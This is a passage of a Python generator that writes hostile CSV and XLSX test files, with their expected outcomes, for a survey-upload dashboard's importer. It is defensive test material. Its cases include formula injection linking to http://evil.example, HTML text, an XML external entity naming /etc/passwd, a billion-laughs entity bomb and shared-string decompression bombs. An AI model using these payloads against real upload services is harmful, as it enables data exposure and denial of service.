                    "=1+1<B>", company_name=ROMANIAN, cluster="<i>IT</i>", sector="@C31"
                ),
            ),
            _text(
                hub_text(
                    [("=1+1<b>", ROMANIAN, "T0", "<i>IT</i>", "@C31")],
                    header=("member_id", "company_name", "wave", "cluster", "sector"),
                )
            ),
        )
    )
    return cases


def _value_cases() -> list[Case]:
    def one(name: str, hostile: str, expected: Expected, *cells: tuple[str, ...]) -> Case:
        return Case(
            name,
            f"{name}.csv",
            "values",
            hostile,
            expected,
            _text(hub_text([good_rows(1)[0], *cells])),
        )

    keep_first = _stored("RO1001", company_name=ROMANIAN)

    def bad(column: str) -> Expected:
        return Expected(REJECTED, errors=((3, column),), stored=keep_first)

    return [
        one("score-over-100", "a score of 130", bad("dma_green"), row("RO2", dma_green="130")),
        one(
            "score-negative",
            "a score of -0,5",
            bad("dma_strategy"),
            row("RO2", dma_strategy="-0,5"),
        ),
        one("score-nan", "a score of NaN", bad("dma_green"), row("RO2", dma_green="NaN")),
        one("score-inf", "a score of inf", bad("dma_green"), row("RO2", dma_green="inf")),
        one("score-exponent", "a score of 1e3", bad("dma_green"), row("RO2", dma_green="1e3")),
        one(
            "score-arabic-digits",
            "a score in Arabic-Indic digits ٥٠",
            bad("dma_green"),
            row("RO2", dma_green="٥٠"),
        ),
        one(
            "score-percent",
            "a score written 67,5%",
            Expected(ACCEPTED, errors=(), stored=_stored("RO2", dma_green=67.5)),
            row("RO2", dma_green="67,5%"),
        ),
        one(
            "wave-arabic-indic-digit",
            "wave T٣ (Arabic-Indic three)",
            bad("wave"),
            row("RO2", wave="T٣"),
        ),
        one(
            "wave-fullwidth-digit", "wave T１ (full-width one)", bad("wave"), row("RO2", wave="T１")
        ),
        one(
            "wave-superscript-digit",
            "wave T² (superscript two)",
            bad("wave"),
            row("RO2", wave="T²"),
        ),
        one(
            "wave-devanagari-digit", "wave T१ (Devanagari one)", bad("wave"), row("RO2", wave="T१")
        ),
        one("wave-negative", "wave T-1", bad("wave"), row("RO2", wave="T-1")),
        one(
            "wave-lower-case",
            "wave t1: accepted, stored upper-case",
            Expected(ACCEPTED, errors=(), stored=_stored("RO2", "T1", company_name=ROMANIAN)),
            row("RO2", wave="t1"),
        ),
        one(
            "date-in-the-future",
            "assessed on 01.01.2099",
            bad("assessed_on"),
            row("RO2", assessed_on="01.01.2099"),
        ),
        one(
            "date-1900",
            "assessed on 01.01.1900: the past is not refused",
            Expected(ACCEPTED, errors=(), stored=_stored("RO2", assessed_on="1900-01-01")),
            row("RO2", assessed_on="01.01.1900"),
        ),
        one(
            "date-impossible",
            "assessed on 31.02.2025",
            bad("assessed_on"),
            row("RO2", assessed_on="31.02.2025"),
        ),
        one(
            "date-unicode-digits",
            "assessed on ١٤.٠٣.٢٠٢٥",
            bad("assessed_on"),
            row("RO2", assessed_on="١٤.٠٣.٢٠٢٥"),
        ),
        one("county-unknown", "county XX", bad("county"), row("RO2", county="XX")),
        one(
            "county-long-form",
            "county written `Județul Cluj`",
            Expected(ACCEPTED, errors=(), stored=_stored("RO2", county="CJ")),
            row("RO2", county="Județul Cluj"),
        ),
        one("member-id-empty", "an empty member id", bad("member_id"), row("")),
        one(
            "member-id-65-characters",
            "a member id of 65 characters",
            bad("member_id"),
            row("R" * 65),
        ),
        one(
            "company-name-201-characters",
            "a company name of 201 characters",
            bad("company_name"),
            row("RO2", company_name="Ș" * 201),
        ),
        one(
            "template-example-row",
            "the template's example row EXEMPLU-1",
            bad("member_id"),
            row("EXEMPLU-1"),
        ),
        Case(
            "member-id-case-and-spaces",
            "member-id-case.csv",
            "values",
            "` ro1001 ` and `RO1001`, same round, same values: one member, kept once",
            Expected(
                ACCEPTED,
                errors=(),
                warnings=((3, "member_id"),),
                rows=2,
                stored=_stored("RO1001", company_name=ROMANIAN),
                stats={"members": 1, "assessments": 1, "uploads": 1},
            ),
            _text(hub_text([row(" ro1001 "), row("RO1001")])),
        ),
        Case(
            "member-id-duplicate-different-values",
            "member-id-dup.csv",
            "values",
            "`ro1001` then `RO1001 `, same round, other scores: the later row is an error",
            Expected(
                REJECTED, errors=((3, "member_id"),), stored=_stored("RO1001", dma_green=55.5)
            ),
            _text(hub_text([row("ro1001"), row("RO1001 ", dma_green="12")])),
        ),
        *_employee_cases(),
    ]


def _employee_cases() -> list[Case]:
    header = ("member_id", "company_name", "wave", "size_class", "employees")

    def case(name: str, hostile: str, expected: Expected, *cells: str) -> Case:
        rows = [("RO1001", ROMANIAN, "T0", "small", "12"), ("RO2", "Beta SRL", "T0", *cells)]
        return Case(
            name, f"{name}.csv", "values", hostile, expected, _text(hub_text(rows, header=header))
        )

    bad = Expected(
        REJECTED,
        errors=((3, "employees"),),
        stored=_stored("RO1001", employees=12, size_class="small"),
    )
    return [
        case("employees-negative", "employees -5", bad, "", "-5"),
        case(
            "employees-huge",
            "employees 10^30 (no whole number ≥ 0 a store can keep)",
            bad,
            "",
            "1" + "0" * 30,
        ),
        case("employees-fraction", "employees 12,5", bad, "", "12,5"),
        case("employees-devanagari", "employees १२", bad, "", "१२"),
        case(
            "employees-thousands",
            "employees 1.200: twelve hundred, size class large",
            Expected(
                ACCEPTED, errors=(), stored=_stored("RO2", employees=1200, size_class="large")
            ),
            "",
            "1.200",
        ),
        case(
            "size-class-contradicts-employees",
            "size class micro with 500 employees: the class given is kept",
            Expected(ACCEPTED, errors=(), stored=_stored("RO2", employees=500, size_class="micro")),
            "micro",
            "500",
        ),
        case(
            "size-class-unknown",
            "size class `giant`",
            Expected(REJECTED, errors=((3, "size_class"),)),
            "giant",
            "",
        ),
    ]


def _size_cases() -> list[Case]:
    many = [row(f"RO{i}") for i in range(1, 7)]
    return [
        Case(
            "rows-over-the-limit",
            "too-many-rows.csv",
            "size",
            "6 rows with DIH_DASH_MAX_ROWS=5",
            Expected(REFUSED, refused=("5",)),
            _text(hub_text(many)),
            env={"DIH_DASH_MAX_ROWS": "5"},
        ),
        Case(
            "rows-at-the-limit",
            "rows-at-limit.csv",
            "size",
            "5 rows with DIH_DASH_MAX_ROWS=5",
            Expected(
                ACCEPTED, errors=(), rows=5, stats={"members": 5, "assessments": 5, "uploads": 1}
            ),
            _text(hub_text(many[:5])),
            env={"DIH_DASH_MAX_ROWS": "5"},
        ),
        Case(
            "file-over-the-upload-limit",
            "too-big.csv",
            "size",
            "a 1.2 MB file with DIH_DASH_MAX_UPLOAD_MB=1",
            Expected(REFUSED, refused=("MB",)),
            _text(hub_text([row(f"RO{i}") for i in range(1, 30_000)])),
            env={"DIH_DASH_MAX_UPLOAD_MB": "1"},
        ),
        Case(
            "xlsx-rows-over-the-limit",
            "too-many-rows.xlsx",
            "size",
            "an XLSX whose last row is numbered 1,048,576 with DIH_DASH_MAX_ROWS=5",
            Expected(REFUSED),
            lambda path: write_xlsx(
                path,
                [
                    (
                        "survey",
                        sheet_xml([XLSX_HEADER, xlsx_row()]).replace(
                            "</sheetData>",
                            '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>',
                        ),
                    )
                ],
            ),
            env={"DIH_DASH_MAX_ROWS": "5"},
        ),
        Case(
            "xlsx-column-xfd",
            "wide.xlsx",
            "size",
            "an XLSX with a cell in column XFD (16,384 columns)",
            Expected(REFUSED),
            lambda path: write_xlsx(
                path,
                [
                    (
                        "survey",
                        sheet_xml([XLSX_HEADER, xlsx_row()]).replace(
                            "</row></sheetData>", '<c r="XFD2"><v>1</v></c></row></sheetData>'
                        ),
                    )
                ],
            ),
        ),
    ]


def _xlsx_cases() -> list[Case]:
    stored = {
        **_stored("RO1001", company_name=ROMANIAN, assessed_on="2025-03-14", dma_green=55.5),
        **_stored("RO1002", "T1", company_name="Îmbinări Ștefan SRL"),
    }
    good = xlsx(XLSX_GOOD_ROWS)
    text_rows = hub_text(good_rows())
    return [
        Case(
            "xlsx-good",
            "good.xlsx",
            "xlsx",
            "a plain workbook (control case): dates as serials with a date format",
            Expected(
                ACCEPTED,
                errors=(),
                layout="hub",
                rows=2,
                stored=stored,
                stats={"members": 2, "assessments": 2, "uploads": 1},
            ),
            good,
        ),
        Case(
            "xlsx-renamed-csv",
            "workbook.csv",
            "xlsx",
            "an XLSX saved under a .csv name: read by its bytes",
            Expected(ACCEPTED, errors=(), rows=2, stored=stored),
            renamed(good),
        ),
        Case(
            "csv-renamed-xlsx",
            "text.xlsx",
            "xlsx",
            "a CSV saved under an .xlsx name: read by its bytes",
            Expected(ACCEPTED, errors=(), rows=3, stored=_stored("RO1001", company_name=ROMANIAN)),
            _text(text_rows),
        ),
        Case(
            "xlsx-not-a-zip",
            "not-zip.xlsx",
            "xlsx",
            "PK signature followed by garbage",
            Expected(REFUSED),
            _bytes(b"PK\x03\x04" + bytes(range(256)) * 8),
        ),
        Case(
            "xlsx-zip-of-other-things",
            "photos.xlsx",
            "xlsx",
            "a valid ZIP holding a text file and a picture, no workbook",
            Expected(REFUSED),
            plain_zip([("readme.txt", b"hello"), ("img.png", b"\x89PNG\r\n\x1a\n" + b"0" * 64)]),
        ),
        Case(
            "xlsx-truncated",
            "truncated.xlsx",
            "xlsx",
            "a workbook cut off at 60% (download interrupted)",
            Expected(REFUSED),
            truncated(good, 0.6),
        ),
        Case(
            "xlsx-missing-sheet-part",
            "no-sheet.xlsx",
            "xlsx",
            "a workbook whose sheet part is missing from the ZIP",
            Expected(REFUSED),
            lambda path: write_xlsx(path, []),
        ),
        Case(
            "xlsx-sheet-not-xml",
            "bad-xml.xlsx",
            "xlsx",
            "a workbook whose sheet is not well-formed XML",
            Expected(REFUSED),
            lambda path: write_xlsx(path, [("survey", "<worksheet><sheetData><row>")]),
        ),
        Case(
            "ole2-encrypted",
            "encrypted.xlsx",
            "xlsx",
            "an OLE2 compound file: a password-protected workbook (or a legacy .xls)",
            Expected(REFUSED, refused=("password",)),
            _bytes(OLE2 + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512),
        ),
        Case(
            "ole2-legacy-xls",
            "legacy.xls",
            "xlsx",
            "a legacy .xls header (OLE2) with nothing readable behind it",
            Expected(REFUSED),
            _bytes(OLE2 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 1018),
        ),
        Case(
            "xlsx-header-only",
            "header-only.xlsx",
            "xlsx",
            "a workbook with a header row and no data",
            Expected(REFUSED),
            xlsx([XLSX_HEADER]),
        ),
        Case(
            "xlsx-many-sheets",
            "many-sheets.xlsx",
            "xlsx",
            "300 sheets; the data on the one named `chestionar`, the 150th",
            Expected(ACCEPTED, errors=(), rows=2, stored=stored),
            lambda path: write_xlsx(
                path,
                [
                    (f"Foaie{i}", sheet_xml([("nota",), (f"n{i}",)]))
                    if i != 150
                    else ("chestionar", sheet_xml(XLSX_GOOD_ROWS))
                    for i in range(1, 301)
                ],
            ),
        ),
        Case(
            "xlsx-formulas",
            "formulas.xlsx",
            "xlsx",
            "formulas: the cached value is read, the formula text never stored",
            Expected(
                ACCEPTED,
                errors=(),
                stored=_stored("RO1001", company_name="Alfa SRL", dma_green=60.0),
            ),
            xlsx(
                [
                    XLSX_HEADER,
                    xlsx_row(
                        company_name=Formula(
                            'HYPERLINK("http://evil.example","Alfa SRL")', "Alfa SRL"
                        ),
                        dma_green=Formula("SUM(20,40)", 60),
                    ),
                ]
            ),
        ),
        Case(
            "xlsx-formula-without-cached-value",
            "formula-uncached.xlsx",
            "xlsx",
            "a required cell holding a formula never calculated: empty, so the row is rejected",
            Expected(REJECTED, errors=((3, "company_name"),)),
            xlsx(
                [
                    XLSX_HEADER,
                    xlsx_row(),
                    xlsx_row("RO1002", company_name=Formula('CONCAT("A","B")', None)),
                ]
            ),
        ),
        Case(
            "xlsx-date-serials",
            "serials.xlsx",
            "xlsx",
            "dates as serials (45730 = 14.03.2025, 1 = 01.01.1900); one as plain text",
            Expected(
                ACCEPTED,
                errors=(),
                stored={
                    **_stored("RO1001", assessed_on="2025-03-14"),
                    **_stored("RO1002", assessed_on="1900-01-01"),
                    **_stored("RO1003", assessed_on="2025-03-14"),
                },
            ),
            xlsx(
                [
                    XLSX_HEADER,
                    xlsx_row(),
                    xlsx_row("RO1002", assessed_on=Date(1)),
                    xlsx_row("RO1003", assessed_on="14.03.2025"),
                ]
            ),
        ),
        Case(
            "xlsx-date-serial-in-the-future",
            "serial-future.xlsx",
            "xlsx",
            "a date serial of 73051 (01.01.2100)",
            Expected(REJECTED, errors=((3, "assessed_on"),)),
            xlsx([XLSX_HEADER, xlsx_row(), xlsx_row("RO1002", assessed_on=Date(73051))]),
        ),
        Case(
            "xlsx-numbers-as-member-ids",
            "numeric-ids.xlsx",
            "xlsx",
            "member ids typed as numbers (a CUI): 12345678 stays 12345678, not 12345678.0",
            Expected(ACCEPTED, errors=(), stored=_stored("12345678", company_name=ROMANIAN)),
            xlsx([XLSX_HEADER, xlsx_row(12345678)]),
        ),
        Case(
            "xlsx-dma-export-sheet",
            "dma-export.xlsx",
            "xlsx",
            "the DMA tool's sheet `My SMEs DMA Results` after two other sheets",
            Expected(
                ACCEPTED,
                errors=(),
                layout="dma-export",
                stored=_stored("SME-7", company_name=ROMANIAN, dma_overall=42.5),
            ),
            lambda path: write_xlsx(
                path,
                [
                    ("Cuprins", sheet_xml([("x",), ("y",)])),
                    ("Info", sheet_xml([("z",)])),
                    (
                        "My SMEs DMA Results",
                        sheet_xml(
                            [
                                (
                                    "SME name",
                                    "SME ID",
                                    "DMA Timing ",
                                    "DMA Score",
                                    "Digital Business Strategy",
                                    "Digital Readiness",
                                    "Human-Centric Digitalisation",
                                    "Data Governance",
                                    "Automation & Artificial Intelligence",
                                    "Green Digitalisation",
                                    "EDIH Name",
                                ),
                                (
                                    ROMANIAN,
                                    "SME-7",
                                    "T0",
                                    42.5,
                                    40,
                                    45,
                                    50,
                                    35,
                                    30,
                                    55,
                                    "Transilvania",
                                ),
                            ]
                        ),
                    ),
                ],
            ),
        ),
        Case(
            "xlsx-injection-text",
            "injection.xlsx",
            "xlsx",
            "formula-like and HTML text in inline-string cells, stored exactly",
            Expected(
                ACCEPTED,
                errors=(),
                stored=_stored(
                    "RO1001", company_name='=HYPERLINK("http://evil.example","<b>x</b>")'
                ),
            ),
            xlsx(
                [XLSX_HEADER, xlsx_row(company_name='=HYPERLINK("http://evil.example","<b>x</b>")')]
            ),
        ),
        Case(
            "xlsx-control-characters-in-text",
            "control.xlsx",
            "xlsx",
            "an XML character reference to ESC (&#27;) in a name: illegal in XML 1.0",
            # As a CSV holding ESC is refused naming its line, the workbook is refused
            # naming the cell.
            Expected(REFUSED, refused=("cell B2", "ESC")),
            lambda path: write_xlsx(
                path,
                [
                    (
                        "survey",
                        sheet_xml([XLSX_HEADER, xlsx_row(company_name="PLACEHOLDER")]).replace(
                            "PLACEHOLDER", "A&#27;[31mB"
                        ),
                    )
                ],
            ),
        ),
        Case(
            "xlsx-billion-laughs",
            "laughs.xlsx",
            "xlsx",
            "nested XML entities expanding to 10^9 'lol's",
            Expected(REFUSED, max_rss_mb=1536),
            billion_laughs_xlsx,
        ),
        Case(
            "xlsx-external-entity",
            "xxe.xlsx",
            "xlsx",
            "an external entity naming /etc/passwd: never read into a name",
            Expected(REFUSED),
            external_entity_xlsx,
        ),
        Case(
            "xlsx-shared-strings",
            "shared.xlsx",
            "xlsx",
            "names as shared strings (control case for the bombs below)",
            Expected(ACCEPTED, errors=(), rows=1, stored=_stored("RO2", company_name="Acme SRL")),
            shared_xlsx(1, 0, count=3),
        ),
        Case(
            "xlsx-shared-strings-bomb",
            "sst-bomb.xlsx",
            "xlsx",
            "a 40 MB shared string deflated to ~40 KB, with DIH_DASH_MAX_UPLOAD_MB=1 (unpacked "
            "limit 20 MB)",
            Expected(REFUSED, max_rss_mb=1536),
            shared_xlsx(2, 1, count=2, text_bytes=40_000_000),
            env={"DIH_DASH_MAX_UPLOAD_MB": "1"},
        ),
        Case(
            "xlsx-shared-string-copied-into-many-cells",
            "sst-copies.xlsx",
            "xlsx",
            "one 4 MB shared string shown by 500 cells (2 GB if each cell copies it)",
            Expected(REFUSED, max_rss_mb=1536),
            shared_xlsx(500, 1, count=2, text_bytes=4_000_000),
        ),
        Case(
            "xlsx-shared-strings-count",
            "sst-count.xlsx",
            "xlsx",
            "30,000 empty shared strings with DIH_DASH_MAX_ROWS=10",
            Expected(REFUSED, refused=("shared texts",), max_rss_mb=1536),
            shared_xlsx(1, 0, count=30_000),
            env={"DIH_DASH_MAX_ROWS": "10"},
        ),
        Case(
            "xlsx-shared-strings-claims-two-billion",
            "sst-claims.xlsx",
            "xlsx",
            "a 2 KB table that claims two billion strings",
            Expected(REFUSED, refused=("shared texts",), max_rss_mb=1536),
            shared_xlsx(1, 0, count=2, claimed=2_000_000_000),
        ),
        Case(
            "xlsx-reference-past-the-table",
            "sst-out-of-range.xlsx",
            "xlsx",
            "a cell pointing to shared string 999 of a table of 2",
            Expected(REFUSED),
            shared_xlsx(2, 999, count=2),
        ),
    ]


def cases() -> list[Case]:
    """Every case, in a fixed order; names are unique and are the test ids."""
    found = [
        *_encoding_cases(),
        *_dialect_cases(),
        *_injection_cases(),
        *_value_cases(),
        *_size_cases(),
        *_xlsx_cases(),
    ]
    names = [c.name for c in found]
    assert len(names) == len(set(names)), "case names must be unique"
    files = [c.filename for c in found]
    assert len(files) == len(set(files)), "file names must be unique"
    return found


def generate(directory: Path, only: Sequence[str] | None = None) -> list[Case]:
    """Write every case's file (or the ones named) and `cases.json` into `directory`."""
    directory.mkdir(parents=True, exist_ok=True)
    chosen = [c for c in cases() if only is None or c.name in only]
    for case in chosen:
        case.write(directory / case.filename)
    manifest = [c.manifest() for c in chosen]
    (directory / "cases.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    return chosen


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("directory", type=Path, help="where to write the files")
    parser.add_argument("--case", action="append", help="only this case (repeatable)")
    args = parser.parse_args(argv)
    written = generate(args.directory, args.case)
    print(f"{len(written)} hostile files and cases.json written to {args.directory}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
